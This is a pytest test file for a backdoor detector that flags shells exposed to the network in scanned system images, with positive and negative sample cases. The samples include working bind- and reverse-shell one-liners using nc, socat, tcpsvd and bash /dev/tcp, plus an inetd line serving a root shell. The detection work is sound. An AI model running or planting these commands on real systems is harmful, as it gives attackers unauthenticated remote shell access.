"""Interpreters that read from the network without a login."""

import pytest
from building import findings_of, image_of

from assay.checks.backdoors import interpreter_from_network
from assay.checks.backdoors.interpreter_from_network import fed_interpreters


@pytest.mark.parametrize(
    "text",
    [
        "nc -l -p 4444 | sh\n",
        "nc -lp 4444 -e /bin/sh\n",
        "while :; do nc -l -p 1 < f | /bin/ash > f; done\n",
        "socat TCP-LISTEN:99,fork EXEC:/bin/sh\n",
        "socat exec:'bash -li',pty tcp:1.2.3.4:99\n",
        "bash -i >& /dev/tcp/1.2.3.4/9 0>&1\n",
        "tcpsvd 0 99 sh -i\n",
    ],
)
def test_fed(text):
    assert len(fed_interpreters(text)) == 1
    (finding,) = findings_of(
        interpreter_from_network, image_of({"/etc/x.sh": b"#!/bin/sh\n" + text.encode()})
    )
    assert finding.severity == "high"
    assert finding.evidence[0].offset >= 10


@pytest.mark.parametrize(
    "text",
    [
        "# nc -l -p 4 | sh\n",
        "nc -l -p 99 -e /bin/cat\n",
        "nc -z host 22 || sh /x\n",
        "nc -l -p 5 > /tmp/sh.log\n",
        "tcpsvd -E 0 21 ftpd -w\n",
        "nc -e sh-server x\n",
        "socat TCP-LISTEN:99 EXEC:/bin/login\n",
    ],
)
def test_not_fed(text):
    assert not fed_interpreters(text)


@pytest.mark.parametrize(
    ("line", "count"),
    [
        (b"8022 stream tcp nowait root /bin/sh sh -i\n", 1),
        (b"8022 stream tcp nowait root /bin/sh sh /usr/bin/serve\n", 0),
        (b"telnet stream tcp nowait root /sbin/telnetd telnetd\n", 0),
        (b"#8022 stream tcp nowait root /bin/sh sh -i\n", 0),
    ],
)
def test_super_server(line, count):
    image = image_of({"/etc/inetd.conf": line})
    assert len(findings_of(interpreter_from_network, image)) == count


@pytest.mark.parametrize("piece", ["nc ", "socat tcp:exec:", "tcpsvd ", "sh </dev/", "nc -e"])
def test_hostile_text_ends(piece):
    assert not fed_interpreters((piece * 90_000)[: 256 << 10])
